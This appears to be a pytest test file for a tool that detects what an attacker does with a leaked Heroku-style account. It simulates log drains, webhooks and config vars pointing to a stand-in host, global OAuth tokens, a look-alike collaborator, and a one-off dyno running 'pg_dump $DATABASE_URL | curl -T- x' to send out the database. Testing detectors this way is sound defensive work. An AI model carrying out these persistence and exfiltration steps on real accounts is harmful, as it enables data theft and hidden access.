"""Attackers who try to hide: each leaves something that is found nevertheless."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from herotui import clock
from herotui.detect.finding import Finding
from herotui.simulator.attack import look_alike
from herotui.simulator.things import App
from tests.detect.direct import Company
from tests.detect.scenes import judged

SITE = "cdn-metrics.example"
WEEK = timedelta(days=7)


@pytest.fixture(autouse=True)
def _afternoon() -> Iterator[None]:
    """A Wednesday afternoon: what colleagues did since the leak is the same whenever the tests run."""
    with clock.replaced(lambda: datetime(2026, 11, 25, 15, tzinfo=UTC)):
        yield


def _company(seed: int = 11) -> Company:
    return Company.found(apps=5, seed=seed).since(WEEK)


def _app(company: Company, number: int = 0) -> App:
    """An app that was there long before the leak."""
    old = [app for app in company.world.apps_seen_by(company.world.owner) if app.created_at < clock.now() - 8 * WEEK]
    return old[number]


def _office(company: Company, days: int) -> datetime:
    """Noon of a working day after the leak, or before it."""
    at = (company.world.leaked_at + timedelta(days=days)).replace(hour=12, minute=7)
    while at.weekday() > 4:
        at += timedelta(days=1)
    return min(at, clock.now() - timedelta(minutes=5))


async def _found(company: Company, **more: Any) -> list[Finding]:
    return list(judged(await company.scene(**more)).findings)


async def test_in_working_hours() -> None:
    company = _company()
    noon, app = _office(company, 1), _app(company).name
    company.attacked([
        (noon, f"POST /apps/{app}/log-drains", {"url": f"https://logs.{SITE}/in"}),
        (noon, "POST /oauth/authorizations", {"description": "deploy", "scope": ["global"]}),
        (noon, f"PATCH /apps/{app}/config-vars", {"SENTRY_DSN": f"https://key@errors.{SITE}/1"}),
    ])  # fmt: skip
    found = await _found(company)
    assert {one.detector for one in found if one.severity == "high"} >= {"log_drain", "authorization", "config_var"}
    assert all(one.who != "teammate" for one in found if one.severity == "high")


async def test_under_the_name_of_a_colleague_or_of_a_tool() -> None:
    company = _company()
    spy, noon = look_alike(company.world.colleague.email), _office(company, 2)
    company.world.meet(spy)
    known = next(one.description for one in company.world.authorizations.values() if one.session)
    company.attacked([
        (noon, f"POST /apps/{_app(company).name}/collaborators", {"user": spy, "silent": True}),
        (noon, "POST /oauth/authorizations", {"description": known, "scope": ["global"]}),
        (noon, "POST /oauth/authorizations", {"description": "terraform", "scope": ["global"]}),
    ])  # fmt: skip
    found = await _found(company)
    assert [one.severity for one in found if one.detector == "collaborator"] == ["critical"]
    assert len([one for one in found if one.detector == "authorization" and one.severity == "high"]) == 2


async def test_with_delays_of_days() -> None:
    company = _company()
    app = _app(company).name
    company.attacked(
        (_office(company, day), f"POST /apps/{app}/webhooks",
         {"include": ["api:release"], "level": "notify", "url": f"https://w{day}.{SITE}/in"})
        for day in (1, 3, 5)
    )  # fmt: skip
    assert len([one for one in await _found(company) if one.detector == "webhook" and one.severity == "high"]) == 3


async def test_changed_and_changed_back() -> None:
    company = _company()
    app = _app(company)
    before = app.config["PUBLIC_URL"]
    noon = _office(company, 2)
    company.attacked([
        (noon, f"PATCH /apps/{app.name}/config-vars", {"PUBLIC_URL": f"https://{SITE}/"}),
        (noon + timedelta(minutes=9), f"PATCH /apps/{app.name}/config-vars", {"PUBLIC_URL": before}),
    ])  # fmt: skip
    found = [one for one in await _found(company) if one.detector == "config_var_passing" and one.severity != "low"]
    assert [(one.item, one.severity) for one in found] == [("PUBLIC_URL", "high")]


async def test_inside_a_deploy() -> None:
    """A build of the attacker's, right after one of the company's, from the usual host."""
    company = _company()
    app, noon = _app(company), _office(company, 1)
    usual = "https://heroku-sources.example/x.tar.gz"
    company.attacked(
        (noon + timedelta(minutes=minutes), f"POST /apps/{app.name}/builds",
         {"source_blob": {"url": usual, "version": commit * 40}})
        for minutes, commit in enumerate("ab")
    )  # fmt: skip
    ours = frozenset(build.commit or "" for build in app.builds) - {"b" * 40}
    found = await _found(company, commits={app.name: ours})
    assert [one.title for one in found if one.detector == "unknown_commit"] == ["Deploy of bbbbbbbbbbbb"]


async def test_with_one_of_the_companys_own_tools() -> None:
    """The log service and the source host are the company's; the app and the account they serve are not."""
    company = _company()
    world, noon = company.world, _office(company, 3)
    addon = next(one for one in world.addons.values() if one.service == "heroku-postgresql")
    company.attacked([
        (noon, "POST /apps", {"name": "nightly-sync-7731"}),
        (noon + timedelta(minutes=1), "POST /addon-attachments",
         {"addon": addon.name, "app": "nightly-sync-7731", "name": "DATABASE"}),
        (noon + timedelta(days=1), "POST /apps/nightly-sync-7731/dynos",
         {"command": "pg_dump $DATABASE_URL | curl -T- x"}),
    ])  # fmt: skip
    found = {one.detector: one.severity for one in await _found(company)}
    assert found["one_off_dyno"] == "critical"
    assert "new_app" in found
    assert "attachment" in found


async def test_before_the_believed_time_of_the_leak() -> None:
    company = _company()
    early = company.world.leaked_at - timedelta(days=2)
    company.attacked([
        (early, "POST /oauth/authorizations", {"description": "metrics", "scope": ["global"]}),
        (early, f"POST /apps/{_app(company).name}/log-drains", {"url": f"https://logs.{SITE}/in"}),
    ])  # fmt: skip
    found = {one.detector: one for one in await _found(company)}
    assert found["authorization"].severity == "medium"
    assert found["log_drain"].severity == "medium"
    assert "before the leak is believed" in found["log_drain"].evidence[0].text


async def test_when_nobody_knows_the_time() -> None:
    company = _company()
    noon = _office(company, 1)
    company.attacked([
        (noon, f"POST /apps/{_app(company).name}/log-drains", {"url": f"https://logs.{SITE}/in"}),
        (noon, "POST /oauth/clients", {"name": "Helper", "redirect_uri": f"https://{SITE}/o"}),
    ])  # fmt: skip
    found = {one.detector for one in await _found(company, known=False) if one.severity in ("high", "medium")}
    assert found >= {"log_drain", "oauth_client"}
